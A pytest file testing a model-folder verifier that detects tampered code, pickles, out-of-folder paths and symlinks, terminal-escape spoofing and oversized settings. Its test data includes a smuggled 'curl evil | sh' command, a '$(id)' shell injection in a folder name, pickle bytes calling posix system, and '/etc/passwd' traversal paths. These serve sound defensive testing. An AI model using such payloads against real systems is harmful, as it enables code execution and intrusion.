"""`seqloom verify` and `check_folder`: a whole folder passes, and every way of tampering with it is told apart."""

import gzip
import hashlib
import io
import json
import lzma
import os
import pickle
import re
import shutil
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from packaging.version import Version
from safetensors.torch import load_file, save_file
from transformers import GenerationConfig

from seqloom import __version__
from seqloom.hub.bundle import MANIFEST_NAME, bundle_files
from seqloom.hub.costs import OUR_TEMPLATES
from seqloom.hub.loading import load_folder
from seqloom.hub.pickles import is_pickle
from seqloom.hub.setting_kinds import CONFIG_KINDS, GENERATION_KINDS, kind_faults
from seqloom.hub.verify import (
    EARLIER,
    RELEASES,
    FolderError,
    Kind,
    check_code,
    check_folder,
    release_digests,
    summarize,
    verify_folder,
)
from seqloom_cli import verbs
from tests.exploit import Exploit
from tests.loopback_hub import Repository, logged_in
from tests.old_folder import unpack_old_folder
from tests.toy import edit

CODE = sorted(set(bundle_files()) - {MANIFEST_NAME})
MODELING = "modeling_seqloom.py"
ALL_IS_WELL = (
    "the code is the released code, and there is no pickle, no path out of the folder, and no cost without end. Not "
    "judged: what weights, tokenizer and chat template make of a text."
)
IS_DEVELOPMENT = Version(__version__).is_devrelease
SINCE = " as it is installed here (a development version may have changed since)" if IS_DEVELOPMENT else ""


@pytest.fixture(scope="module")
def saved(tiny_model: Callable[..., Any], char_tokenizer: Callable[..., Any], tmp_path_factory: Any) -> Path:
    """Return a folder as save_pretrained leaves it."""
    path = tmp_path_factory.mktemp("verify") / "model"
    tiny_model().save_pretrained(path)
    char_tokenizer("abcdefghijklmnopqrstuvwxyz0123456789").save_pretrained(path)
    return path


@pytest.fixture
def folder(saved: Path, tmp_path: Path) -> Path:
    """Return a copy to tamper with."""
    return Path(shutil.copytree(saved, tmp_path / "model"))


def problems(folder: Path) -> list[tuple[Kind, str]]:
    return [(found.kind, found.file) for found in verify_folder(folder) if found.is_problem]


def refusal(folder: Path) -> str:
    with pytest.raises(FolderError) as error:
        check_folder(folder)
    return str(error.value)


def change(path: Path) -> None:
    path.write_text(path.read_text() + "\nimport os\n")


def renew_manifest(folder: Path, **entries: Any) -> None:
    """Do what somebody does who changes the code and wants nobody to notice."""
    digests = {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in folder.glob("*.py")}
    edit(folder / MANIFEST_NAME, sha256=digests, **entries)


# Good folders -------------------------------------------------------------------------------------------------------


def test_a_saved_folder_is_the_released_code(folder: Path) -> None:
    findings = verify_folder(folder)
    assert [str(found) for found in findings] == [f"ok        {n}: the code of Seqloom {__version__}." for n in CODE]
    assert summarize(folder, findings) == f"{folder}: {ALL_IS_WELL}"
    check_folder(folder)


def test_saved_where_seqloom_is_missing_there_is_no_manifest_and_the_code_is_compared_all_the_same(
    folder: Path,
) -> None:
    (folder / MANIFEST_NAME).unlink()
    assert problems(folder) == []
    assert str(verify_folder(folder)[-1]) == (
        f"note      {MANIFEST_NAME}: not there; transformers leaves it out when it saves a model where Seqloom is not "
        f"installed."
    )
    check_folder(folder)
    change(folder / MODELING)
    assert problems(folder) == [(Kind.CHANGED, MODELING)]


def test_checkpoints_are_verified_with_trainers_state_in_them(folder: Path, saved: Path) -> None:
    checkpoint = Path(shutil.copytree(saved, folder / "checkpoint-3"))
    (checkpoint / "trainer_state.json").write_text("{}")
    state = ["optimizer.pt", "rng_state_1.pth", "scheduler.pt", "training_args.bin"]
    for name in state:
        torch.save({}, checkpoint / name)
    torch.save({}, folder / "training_args.bin")
    assert problems(folder) == []
    lines = [str(found) for found in verify_folder(folder)]
    note = "pickles of Trainer's, which only a run that goes on reads; push without them."
    assert f"note      training_args.bin: {note}" in lines
    assert f"note      checkpoint-3/{', '.join(state)}: {note}" in lines
    check_folder(folder)
    check_folder(checkpoint)
    change(checkpoint / MODELING)
    assert set(problems(folder)) == {(k, f"checkpoint-3/{MODELING}") for k in (Kind.CHANGED, Kind.MANIFEST)}
    check_folder(folder)  # which is loaded without its checkpoints


@pytest.mark.parametrize("place", ["_saving/checkpoint-4", "_broken-checkpoint-4"])
def test_what_a_killed_run_leaves_is_nobodys_model(folder: Path, place: str) -> None:
    (folder / place).mkdir(parents=True)
    torch.save({}, folder / place / "optimizer.pt")
    assert problems(folder) == []
    check_folder(folder)
    edit(folder / "config.json", auto_map={"AutoModel": f"{place}/evil.Model"})
    assert problems(folder) == [(Kind.OUTSIDE, "config.json")]


def test_trainers_state_belongs_in_checkpoints(folder: Path) -> None:
    torch.save({}, folder / "optimizer.pt")
    assert problems(folder) == [(Kind.PICKLE, "optimizer.pt")]


def test_a_snapshot_of_the_hubs_cache_consists_of_links_and_passes(folder: Path) -> None:
    blobs, snapshot = folder.parent / "blobs", folder.parent / "snapshots" / "0123abc"
    folder.rename(blobs)
    snapshot.mkdir(parents=True)
    for blob in blobs.iterdir():
        (snapshot / blob.name).symlink_to(Path("../../blobs") / blob.name)
    assert problems(snapshot) == []
    check_folder(snapshot)


def test_blobs_that_all_repositories_of_the_cache_share_are_no_way_out(folder: Path, tmp_path: Path) -> None:
    """huggingface_hub 2.4: snapshots/REV/FILE -> blobs/ETAG -> ../../blobs/xx/HASH."""
    repository = tmp_path / "models--alice--dates"
    snapshot, shared = repository / "snapshots" / "0123abc", tmp_path / "blobs" / "01"
    for place in (snapshot, repository / "blobs", shared):
        place.mkdir(parents=True)
    for file in folder.iterdir():
        file.rename(shared / file.name)
        (repository / "blobs" / file.name).symlink_to(Path("../../blobs/01") / file.name)
        (snapshot / file.name).symlink_to(Path("../../blobs") / file.name)
    assert problems(snapshot) == []
    check_folder(snapshot)
    (tmp_path / "secret").write_text("x")
    (snapshot / "notes.md").symlink_to(tmp_path / "secret")
    assert problems(snapshot) == [(Kind.OUTSIDE, "notes.md")]


def test_the_model_of_another_engine_is_no_pickle(folder: Path) -> None:
    """CTranslate2 writes model.bin: a version number, then the name of the architecture."""
    (folder / "ctranslate2").mkdir()
    (folder / "ctranslate2" / "model.bin").write_bytes(b"\x06\x00\x00\x00\x10\x00TransformerSpec\x00")
    assert problems(folder) == []


# Code ---------------------------------------------------------------------------------------------------------------


def test_changed_code_is_found_although_the_manifest_was_renewed(folder: Path) -> None:
    change(folder / MODELING)
    renew_manifest(folder)
    assert problems(folder) == [(Kind.CHANGED, MODELING)]
    (line,) = (str(found) for found in verify_folder(folder) if found.is_problem)
    mine = hashlib.sha256((folder / MODELING).read_bytes()).hexdigest()
    assert line == (
        f"changed   {MODELING}: SHA-256 {mine[:12]}... is not {release_digests()[MODELING][:12]}..., that of Seqloom "
        f"{__version__}{SINCE}; get the folder from its author anew, or save the model again with save_pretrained."
    )
    assert summarize(folder, verify_folder(folder)) == (
        f"{folder}: NOT only the released code and safe files, 1 line above speaks against it; do not load it with "
        f"trust_remote_code=True."
    )
    check_folder(folder)  # nobody here runs it


def test_missing_code(folder: Path) -> None:
    (folder / MODELING).unlink()
    renew_manifest(folder)
    assert problems(folder) == [(Kind.MISSING, MODELING)]
    (line,) = (str(found) for found in verify_folder(folder) if found.is_problem)
    assert line.startswith(f"missing   {MODELING}: Seqloom {__version__} writes this file, and it is not there; ")


@pytest.mark.parametrize("name", ["helper.py", "custom_generate/generate.py", "a/b/evil.so", "__pycache__/x.PYC"])
def test_extra_code(folder: Path, name: str) -> None:
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text("")
    assert problems(folder) == [(Kind.EXTRA, name)]
    assert str(verify_folder(folder)[-1]) == (
        f"extra     {name}: no part of the released code, and transformers may run it with trust_remote_code=True; "
        f"delete it, or read it before you trust it."
    )
    check_folder(folder)


@pytest.mark.parametrize("file", ["config.json", "tokenizer_config.json", "generation_config.json"])
def test_a_class_that_is_not_in_the_released_code(folder: Path, file: str) -> None:
    edit(folder / file, auto_map={"AutoTokenizer": ["my_tokenizer.Mine", None]})
    edit(folder / "config.json", custom_pipelines={"rhyme": {"impl": "my_pipeline.Rhyme", "pt": ["AutoModel"]}})
    lines = [str(found) for found in verify_folder(folder) if found.is_problem]
    end = "which is not in the released code; delete the entry, or read that file before you trust it."
    assert sorted(lines) == sorted(
        [
            f"extra     {file}: auto_map AutoTokenizer names my_tokenizer.Mine, {end}",
            f"extra     config.json: custom_pipelines rhyme names my_pipeline.Rhyme, {end}",
        ]
    )
    check_folder(folder)  # a user's own class is the user's own business


def test_another_release_is_looked_up(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    change(folder / MODELING)
    renew_manifest(folder, seqloom_version="0.0.7")
    (found,) = verify_folder(folder)
    assert str(found) == (
        f"unknown   {MANIFEST_NAME}: it says that Seqloom 0.0.7 wrote the code, and Seqloom {__version__} does not "
        f"know that release; verify with seqloom==0.0.7 installed, or with a later version."
    )
    monkeypatch.setitem(RELEASES, "0.0.7", json.loads((folder / MANIFEST_NAME).read_text())["sha256"])
    *code, last = verify_folder(folder)
    assert {str(found) for found in code} == {f"ok        {n}: the code of Seqloom 0.0.7." for n in CODE}
    assert str(last) == (
        f"older     {MANIFEST_NAME}: older code; seqloom upgrade {folder} gives the folder that of Seqloom "
        f"{__version__}."
    )
    assert not last.is_problem
    change(folder / MODELING)
    renew_manifest(folder)
    (line,) = (str(found) for found in verify_folder(folder) if found.is_problem)
    assert "..., that of Seqloom 0.0.7; get the folder" in line


@pytest.mark.parametrize("commit", EARLIER)
@pytest.mark.parametrize("has_manifest", [True, False])
def test_code_of_a_known_commit_is_older_and_not_changed(
    taught_model: Callable[..., Any], tmp_path: Path, commit: str, has_manifest: bool
) -> None:
    """Its manifest names the version of today; without one, the files speak for themselves."""
    old, digests = unpack_old_folder(tmp_path / "dates", taught_model(), commit), EARLIER[commit]
    assert json.loads((old / MANIFEST_NAME).read_text()) == {"seqloom_version": "0.1.0.dev0", "sha256": digests}
    if not has_manifest:
        (old / MANIFEST_NAME).unlink()
    lines = [str(found) for found in verify_folder(old)]
    assert lines[: len(digests)] == [
        f"ok        {name}: the code of Seqloom at commit {commit}." for name in sorted(digests)
    ]
    assert problems(old) == []
    assert Kind.OLDER in [found.kind for found in verify_folder(old)]
    change(old / MODELING)
    assert (Kind.CHANGED, MODELING) in problems(old)
    others = {(Kind.CHANGED, "configuration_seqloom.py"), (Kind.EXTRA, "packing.py"), (Kind.CHANGED, "canary.py")}
    assert not others & set(problems(old))


def test_a_release_has_its_digests_in_the_table() -> None:
    """For whoever releases: add the entry that a failure shows to RELEASES in hub/verify.py."""
    assert all(not Version(version).is_devrelease for version in RELEASES)
    if not IS_DEVELOPMENT:
        assert RELEASES.get(__version__) == release_digests()


# Dangers ------------------------------------------------------------------------------------------------------------


def test_code_changed_behind_the_manifests_back(folder: Path) -> None:
    before = hashlib.sha256((folder / MODELING).read_bytes()).hexdigest()
    change(folder / MODELING)
    assert problems(folder) == [(Kind.CHANGED, MODELING), (Kind.MANIFEST, MODELING)]
    mine = hashlib.sha256((folder / MODELING).read_bytes()).hexdigest()
    assert refusal(folder) == (
        f"{folder / MODELING}: its SHA-256 {mine[:12]} is not {before[:12]}, which {MANIFEST_NAME} says; somebody "
        f"changed the folder after it was saved. Get it anew, or save the model again; if the change is your own, "
        f"delete {MANIFEST_NAME}."
    )


@pytest.mark.parametrize("digests", [None, {}, [], {"../secret.py": "0"}, {"gone.py": "0"}], ids=str)
def test_a_manifest_of_nothing(folder: Path, digests: Any) -> None:
    (folder.parent / "secret.py").write_text("")
    edit(folder / MANIFEST_NAME, sha256=digests)
    assert [kind for kind, _ in problems(folder)] == [Kind.MANIFEST]
    assert refusal(folder).endswith(f"if the change is your own, delete {MANIFEST_NAME}.")


@pytest.mark.parametrize("name", ["pytorch_model.bin", "adapter_model.bin", "old/weights.PTH", "model.ckpt", "x.pkl"])
def test_pickles(folder: Path, name: str) -> None:
    (folder / name).parent.mkdir(exist_ok=True)
    torch.save({}, folder / name)
    assert problems(folder) == [(Kind.PICKLE, name)]
    assert refusal(folder) == (
        f"{folder / name}: a pickle, and loading one can run anything; weights belong in safetensors. Delete it, or "
        f"have its author save the model as safetensors."
    )


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
def test_pickles_of_every_protocol_are_told_from_other_files(tmp_path: Path, protocol: int) -> None:
    for number, value in enumerate([{}, [], (), None, 1, 1.5, "x", b"x", True, print, {1}, Path()]):
        (tmp_path / "x.pkl").write_bytes(pickle.dumps(value, protocol))
        assert is_pickle(tmp_path / "x.pkl"), number


OUTSIDE_CODE = [
    "owner/repo--modeling.Model",
    "/tmp/evil.Model",
    "sub/evil.Model",
    "../evil.Model",
    "a.b.Model",
    "Model",
]


@pytest.mark.parametrize("reference", OUTSIDE_CODE)
@pytest.mark.parametrize("key", ["auto_map", "custom_pipelines"])
def test_code_outside_the_folder(folder: Path, key: str, reference: str) -> None:
    edit(folder / "config.json", **{key: {"X": reference if key == "auto_map" else {"impl": reference}}})
    assert problems(folder) == [(Kind.OUTSIDE, "config.json")]
    assert refusal(folder) == (
        f"{folder / 'config.json'}: {key} X is {reference!r}, and code has to lie in the folder itself, as file.Class; "
        f"correct the entry, or get the folder anew."
    )


PATHS = ["../model.safetensors", "/etc/passwd", "a/../../b", "C:\\weights", "..\\b", "\\\\host\\share\\b"]


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize(
    ("file", "key", "wrap"),
    [
        (
            "model.safetensors.index.json",
            "weight_map",
            lambda path: {"lm_head.weight": path, "other": "ok.safetensors"},
        ),
        ("config.json", "transformers_weights", str),
        ("tokenizer_config.json", "tokenizer_file", str),
        ("tokenizer_config.json", "fast_tokenizer_files", lambda path: ["tokenizer.json", path]),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_files_outside_the_folder(folder: Path, file: str, key: str, wrap: Callable[[str], Any], path: str) -> None:
    if not (folder / file).exists():
        (folder / file).write_text('{"metadata": {}}')
    edit(folder / file, **{key: wrap(path)})
    assert problems(folder) == [(Kind.OUTSIDE, file)]
    text = f"{key} is {path!r}, a path out of the folder; correct the entry, or get the folder anew."
    assert refusal(folder) == f"{folder / file}: {text}"


def test_kernels_from_the_hub(folder: Path) -> None:
    edit(folder / "config.json", attn_implementation="sdpa")
    check_folder(folder)
    edit(folder / "config.json", attn_implementation="owner/kernel")
    assert problems(folder) == [(Kind.OUTSIDE, "config.json")]
    assert refusal(folder) == (
        f"{folder / 'config.json'}: attn_implementation is 'owner/kernel', code of a repository on the Hub; delete the "
        f"entry, and choose the kernel where you load."
    )


@pytest.mark.parametrize("name", ["README.md", "model.safetensors", "assets", "checkpoint-1"])
def test_links_out_of_the_folder(folder: Path, tmp_path: Path, name: str) -> None:
    target = tmp_path / "elsewhere"
    target.mkdir()
    (folder / name).unlink(missing_ok=True)
    (folder / name).symlink_to(target)
    (folder / "inside").symlink_to("config.json")
    assert problems(folder) == [(Kind.OUTSIDE, name)]
    assert refusal(folder) == (
        f"{folder / name}: a link to {target}, out of the folder; put the file itself there, or delete the link."
    )


def test_a_link_to_nowhere(folder: Path) -> None:
    (folder / "gone.bin").symlink_to("/nowhere/gone.bin")
    assert problems(folder) == [(Kind.OUTSIDE, "gone.bin")]


@pytest.mark.parametrize("content", ["{", "[]", "\ud800", '"x"', "[" * 100_000])
def test_settings_that_cannot_be_read(folder: Path, content: str) -> None:
    (folder / "tokenizer_config.json").write_bytes(content.encode("utf-8", "surrogatepass"))
    assert problems(folder) == [(Kind.BROKEN, "tokenizer_config.json")]
    assert refusal(folder).endswith(
        ": no JSON object, so nobody can say what it refers to; get the folder anew, or save the model again."
    )


@pytest.mark.parametrize("content", ["{", "[" * 100_000, "", "\x00"])
def test_other_json_that_cannot_be_read(folder: Path, content: str) -> None:
    (folder / "tokenizer.json").write_text(content)
    assert problems(folder) == [(Kind.BROKEN, "tokenizer.json")]
    assert refusal(folder).endswith("no JSON; get the folder anew, or delete the file if it is your own.")


def test_several_dangers_name_the_first_and_the_command_that_lists_them(folder: Path) -> None:
    torch.save({}, folder / "a.pt")
    torch.save({}, folder / "b.pt")
    assert refusal(folder).endswith(f"as safetensors. (and 1 more: seqloom verify {folder} lists them)")


def test_no_folder(tmp_path: Path) -> None:
    for look in (check_folder, verify_folder):
        with pytest.raises(FolderError, match=r"holds no config.json; name the folder that seqloom train wrote"):
            look(tmp_path / "nowhere")


# What a folder says of itself ---------------------------------------------------------------------------------------

SPOOF = "\x1b[1A\x1b[2K\u202eok\r\nok        all.py: fine"


def printed(folder: Path) -> list[str]:
    return [*map(str, verify_folder(folder)), summarize(folder, verify_folder(folder))]


@pytest.mark.parametrize(
    "tamper",
    [
        lambda folder: (folder / f"{SPOOF.replace('/', '')}.py").write_text(""),
        lambda folder: (folder / f"{SPOOF}.pkl").write_bytes(pickle.dumps({})),
        lambda folder: renew_manifest(folder, seqloom_version=SPOOF),
        lambda folder: edit(folder / MANIFEST_NAME, sha256={SPOOF: SPOOF}),
        lambda folder: edit(folder / "config.json", auto_map={SPOOF: "evil.Evil"}),
        lambda folder: edit(folder / "config.json", auto_map={SPOOF: SPOOF}),
        lambda folder: edit(folder / "config.json", attn_implementation=f"/{SPOOF}"),
        lambda folder: edit(folder / "tokenizer_config.json", **{f"{SPOOF}_file": f"../{SPOOF}"}),
        lambda folder: (folder / "x").symlink_to(f"/nowhere/{SPOOF}"),
        lambda folder: edit(folder / "config.json", auto_map={"a" * 99_999: "evil.Evil"}),
    ],
)
def test_nothing_that_a_folder_says_moves_a_cursor_or_makes_a_line(folder: Path, tamper: Callable[[Path], Any]) -> None:
    tamper(folder)
    lines = printed(folder)
    assert problems(folder)
    try:
        check_folder(folder)
    except FolderError as error:
        lines.append(str(error))
    for line in lines:
        assert line.isprintable()
        assert len(line) < 3000
    assert "\\x1b[1A" in "".join(lines) or "[...]" in "".join(lines)


def test_a_version_that_is_none_is_not_put_into_a_command(folder: Path) -> None:
    renew_manifest(folder, seqloom_version="1; curl evil | sh")
    (found,) = (each for each in verify_folder(folder) if each.is_problem)
    assert found.text.endswith("does not know that release; get it anew.")


def test_commands_to_paste_are_quoted(folder: Path, tmp_path: Path) -> None:
    odd = Path(shutil.copytree(folder, tmp_path / "a b;$(id)"))
    torch.save({}, odd / "a.pt")
    torch.save({}, odd / "b.pt")
    assert f"seqloom verify '{odd}' lists them" in refusal(odd)


# What loading can reach ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["weights", "a/b.txt", "x.safetensors"])
@pytest.mark.parametrize("protocol", [0, 2, 5, "torch", "gzip", "zlib", "lzma", "numpy", "tar", "row", "zip"])
def test_content_decides_what_is_a_pickle(folder: Path, tmp_path: Path, name: str, protocol: int | str) -> None:
    path, payload = folder / name, pickle.dumps(Exploit(tmp_path / "trace"), 0)
    path.parent.mkdir(exist_ok=True)
    if protocol == "torch":
        torch.save({"x": Exploit(tmp_path / "trace")}, path)
    elif protocol == "gzip":
        path.write_bytes(gzip.compress(payload))
    elif protocol == "zlib":  # as joblib writes
        path.write_bytes(zlib.compress(payload, 3))
    elif protocol == "lzma":
        path.write_bytes(lzma.compress(payload, lzma.FORMAT_ALONE))
    elif protocol == "row":  # as torch wrote: a number, a version, then what is loaded
        path.write_bytes(pickle.dumps(0x1950A86A20F9469CFC6C, 0) + pickle.dumps(1001, 0) + payload)
    elif protocol == "zip":  # behind so many members, the first of which nobody can read
        with zipfile.ZipFile(path, "w") as archive:
            for number in range(1200):
                archive.writestr(f"data/{number}", "x")
            archive.writestr("archive/data.pkl", payload)
        path.write_bytes(path.read_bytes().replace(b"data/0x", b"data/0y", 1))
    elif protocol == "numpy":
        with path.open("wb") as file:
            np.save(file, np.array([Exploit(tmp_path / "trace")]), allow_pickle=True)
    elif protocol == "tar":
        with tarfile.open(path, "w") as archive:
            member = tarfile.TarInfo("pickle")
            member.size = len(payload)
            archive.addfile(member, io.BytesIO(payload))
    else:
        path.write_bytes(pickle.dumps(Exploit(tmp_path / "trace"), int(protocol)))
    assert (Kind.PICKLE, name) in problems(folder)
    assert refusal(folder).startswith(f"{path}: a pickle, and loading one can run anything")
    path.unlink()
    check_folder(folder)
    assert not (tmp_path / "trace").exists()


def test_a_pickle_behind_padding_and_one_that_breaks_off_after_its_call(folder: Path, tmp_path: Path) -> None:
    call = pickle.dumps(Exploit(tmp_path / "trace"), 0)
    (folder / "padded").write_bytes(b"V" + b"a" * 200_000 + b"\n0" + call)
    (folder / "broken").write_bytes(call[:-1] + b"\x00\x00")
    (folder / "long").write_bytes(b"N0" * 200_000)
    (folder / "inst").write_bytes(b"(S'id'\niposix\nsystem\n\x00")
    (folder / "obj").write_bytes(b"(cposix\nsystem\nS'id'\no\x00")
    (folder / "import").write_bytes(b"cantigravity\nfly\n.")
    assert set(problems(folder)) == {
        (Kind.PICKLE, name) for name in ("padded", "broken", "long", "inst", "obj", "import")
    }


@pytest.mark.parametrize(
    "content", [b"", b"cat\nsat\non\n", b"cat\nsat\nRome\n", b"# Title", b"N. B. this", b"{}", b"\x80\x02\x00", b"PK"]
)
def test_other_files_are_no_pickles(folder: Path, content: bytes) -> None:
    (folder / "notes").write_bytes(content)
    (folder / "text.gz").write_bytes(gzip.compress(content))
    np.save(folder / "numbers.npy", np.arange(3))
    assert problems(folder) == []


def test_weights_behind_a_link_in_a_checkpoint(folder: Path, tmp_path: Path) -> None:
    """Issue 12: settings led into checkpoint-5, which nobody looked into, and a link there led out."""
    (folder / "checkpoint-5").mkdir()
    shutil.copy(folder / "model.safetensors", tmp_path / "other.safetensors")
    link = folder / "checkpoint-5" / "model.safetensors"
    link.symlink_to(tmp_path / "other.safetensors")
    assert problems(folder) == [(Kind.OUTSIDE, "checkpoint-5/model.safetensors")]
    assert "a link to" in refusal(folder)
    link.unlink()
    check_folder(folder)
    edit(folder / "config.json", transformers_weights="checkpoint-5/model.safetensors")
    assert problems(folder) == [(Kind.OUTSIDE, "config.json")]
    assert "a path into a folder of the run, which is not the model's; correct the entry" in refusal(folder)


@pytest.mark.parametrize("place", ["checkpoint-5", "_saving/checkpoint-4", "_broken-checkpoint-4"])
def test_pickles_in_the_folders_of_a_run(folder: Path, place: str) -> None:
    (folder / place).mkdir(parents=True)
    torch.save({}, folder / place / "optimizer.pt")
    check_folder(folder)
    torch.save({}, folder / place / "weights")
    assert problems(folder) == [(Kind.PICKLE, f"{place}/weights")]
    assert "a pickle" in refusal(folder)


def test_trainers_pickle_is_one_as_soon_as_settings_name_it(folder: Path) -> None:
    torch.save({}, folder / "training_args.bin")
    check_folder(folder)
    (folder / "pytorch_model.bin.index.json").write_text(json.dumps({"weight_map": {"x": "training_args.bin"}}))
    assert problems(folder) == [(Kind.PICKLE, "training_args.bin")]


@pytest.mark.parametrize("file", ["target/tokenizer_config.json", "target/config.json", "a/b/x.index.json"])
def test_settings_in_folders_below_are_read(folder: Path, file: str) -> None:
    (folder / file).parent.mkdir(parents=True)
    (folder / file).write_text(
        json.dumps({"auto_map": {"AutoTokenizer": "/tmp/evil.Evil"}, "weight_map": {"a": "../b"}})
    )
    assert problems(folder) == [(Kind.OUTSIDE, file)] * 2


def test_an_adapter_that_names_another_model(folder: Path) -> None:
    (folder / "adapter_config.json").write_text('{"base_model_name_or_path": "owner/other"}')
    assert problems(folder) == [(Kind.OUTSIDE, "adapter_config.json")]
    assert "base_model_name_or_path is 'owner/other', and with PEFT that is loaded instead; move" in refusal(folder)
    edit(folder / "adapter_config.json", base_model_name_or_path=None)
    check_folder(folder)


# Costs --------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["model.safetensors", "tokenizer.json", "generation_config.json", "notes", "a.jinja"])
def test_a_pipe_where_a_file_is_expected(folder: Path, name: str) -> None:
    (folder / name).unlink(missing_ok=True)
    os.mkfifo(folder / name)
    assert (Kind.BROKEN, name) in problems(folder)
    assert "no regular file, so reading it may never end; put a file there, or delete it." in refusal(folder)


def test_a_device_behind_a_link(folder: Path) -> None:
    for name in ("model.safetensors", "tokenizer_config.json", "README.md"):
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to("/dev/zero")
    assert {name for kind, name in problems(folder) if kind is Kind.OUTSIDE} == {
        "model.safetensors", "tokenizer_config.json", "README.md"
    }  # fmt: skip
    with pytest.raises(FolderError):
        check_folder(folder)


@pytest.mark.parametrize(
    ("name", "size", "rule"),
    [
        ("model.safetensors", 1 << 40, "it does not begin as a safetensors file"),
        ("config.json", 1 << 40, "no JSON object"),
        ("generation_config.json", 1 << 30, "no JSON object"),
        ("tokenizer.json", 1 << 40, "such a file is read up to 1,073,741,824"),
        ("README.md", 1 << 40, "such a file is read up to 16,777,216"),
        ("modeling_seqloom.py", 1 << 40, MANIFEST_NAME),
        ("run/data.json", 1 << 40, "such a file is read up to 16,777,216"),
        ("run/recipe.yaml", 1 << 30, "such a file is read up to 1,048,576"),
        ("chat_template.jinja", 1 << 30, "such a file is read up to 1,048,576"),
    ],
)
def test_sparse_files(folder: Path, name: str, size: int, rule: str) -> None:
    (folder / name).parent.mkdir(exist_ok=True)
    with (folder / name).open("wb") as file:
        file.truncate(size)
    assert any(name == file for _, file in problems(folder))
    assert rule in refusal(folder)


def test_weights_that_were_cut(folder: Path) -> None:
    path = folder / "model.safetensors"
    size = path.stat().st_size
    os.truncate(path, size - 1)
    assert problems(folder) == [(Kind.BROKEN, "model.safetensors")]
    assert refusal(folder).endswith(
        f"no whole safetensors file: it has {size - 1:,} bytes, and its header says {size:,}; get it anew, or save the "
        f"model again."
    )


def test_weights_that_a_terminal_would_obey(folder: Path) -> None:
    """transformers' own report prints the names of unknown weights as they are."""
    path = folder / "model.safetensors"
    weights = load_file(path)
    save_file({**weights, "\x1b[2Jok": next(iter(weights.values())).clone()}, path, metadata={"format": "pt"})
    assert problems(folder) == [(Kind.BROKEN, "model.safetensors")]
    assert "a tensor is called '\\x1b[2Jok', which a terminal would obey" in refusal(folder)


@pytest.mark.parametrize(
    ("file", "entries", "rule"),
    [
        ("generation_config.json", {"max_new_tokens": 10**9}, "may ask for 131,072 at most; correct the entry"),
        ("generation_config.json", {"num_beams": 10**6}, "num_beams is 1,000,000, and a folder may"),
        ("generation_config.json", {"num_return_sequences": 10**400}, "num_return_sequences is a number of 401 digits"),
        ("generation_config.json", {"min_length": float("nan")}, "min_length is nan"),
        ("generation_config.json", {"encoder_no_repeat_ngram_size": 2 * 10**9}, "size is 2,000,000,000, and a folder"),
        ("generation_config.json", {"watermarking_config": {"context_history_size": 10**9}}, "history_size is 1,000"),
        ("config.json", {"max_length": 1e300}, "max_length is 1"),
        ("config.json", {"encoder_layers": 10**7}, "encoder_layers is 10,000,000, and a folder may ask for 1,000"),
        ("config.json", {"num_hidden_layers": 900}, "a network of at least "),
        ("config.json", {"vocab_size": 10**7}, "a network of at least 160,0"),
        ("config.json", {"vocab_size": 10**9}, "vocab_size is 1,000,000,000, and a folder may ask for 16,777,216"),
        ("config.json", {"hidden_size": 2**40}, "a network of at least "),
        ("config.json", {"decoder_ffn_dim": 2**18}, "and the weights hold "),
    ],
)  # fmt: skip
def test_numbers_without_end_are_refused_and_the_remedy_works(
    folder: Path, file: str, entries: dict[str, Any], rule: str
) -> None:
    before = (folder / file).read_text()
    edit(folder / file, **entries)
    assert set(problems(folder)) == {(Kind.COST, file)}
    assert rule in refusal(folder)
    (folder / file).write_text(before)  # correct the entry
    check_folder(folder)


@pytest.mark.parametrize(
    ("file", "entries", "rule"),
    [
        ("generation_config.json", {"num_beams": {"a": 1}}, "num_beams is {'a': 1}, and should be a whole number"),
        ("generation_config.json", {"max_new_tokens": [5]}, "max_new_tokens is [5], and should be a whole number"),
        ("generation_config.json", {"no_repeat_ngram_size": True}, "is True, and should be a whole number"),
        ("generation_config.json", {"length_penalty": "1"}, "length_penalty is '1', and should be a number"),
        ("generation_config.json", {"do_sample": "no"}, "do_sample is 'no', and should be true or false"),
        ("generation_config.json", {"eos_token_id": "</s>"}, "should be the number of a token, or a list of them"),
        ("generation_config.json", {"eos_token_id": [2, 10**30]}, "and they run from 0 to 39"),
        ("generation_config.json", {"pad_token_id": -1}, "pad_token_id names token -1, and they run from 0 to 39"),
        ("generation_config.json", {"suppress_tokens": [[1]]}, "should be a list of tokens' numbers"),
        ("config.json", {"norm_type": {"a": 1}}, "'norm_type' expected str, got dict"),
        ("config.json", {"scale_embedding": 1}, "'scale_embedding' expected bool, got int"),
        ("config.json", {"num_hidden_layers": {}}, "it describes no model ("),
        ("config.json", {"dtype": [1]}, "it describes no model ("),
        ("config.json", {"id2label": True}, "it describes no model ("),
        ("tokenizer_config.json", {"model_max_length": "x"}, "model_max_length is 'x', and should be a number"),
        ("config.json", {"num_beams": {"a": 1}}, "num_beams is {'a': 1}, and should be a whole number"),
        ("config.json", {"architectures": 5}, "architectures is 5, and should be a list of words"),
        ("config.json", {"custom_pipelines": {"a": {}}}, "each with its class as"),
        ("config.json", {"dtype": 5}, "dtype is 5, and should be a word"),
        ("config.json", {"transformers_weights": {}}, "transformers_weights is {}, and should be a word"),
    ],
)  # fmt: skip
def test_values_of_another_kind_are_refused_and_the_remedy_works(
    folder: Path, file: str, entries: dict[str, Any], rule: str
) -> None:
    before = (folder / file).read_text()
    edit(folder / file, **entries)
    assert problems(folder) == [(Kind.BROKEN, file)]
    assert rule in refusal(folder)
    assert "correct the entry" in refusal(folder)
    (folder / file).write_text(before)  # correct the entry
    check_folder(folder)


def test_every_default_of_the_library_is_of_its_kind(folder: Path) -> None:
    """Folders of earlier releases name them all, `num_assistant_tokens_schedule` of 4.x among them."""
    defaults = {name: value for name, value in vars(GenerationConfig()).items() if name[0] != "_"}
    older = {"num_assistant_tokens": 20, "num_assistant_tokens_schedule": "constant", "early_stopping": "never"}
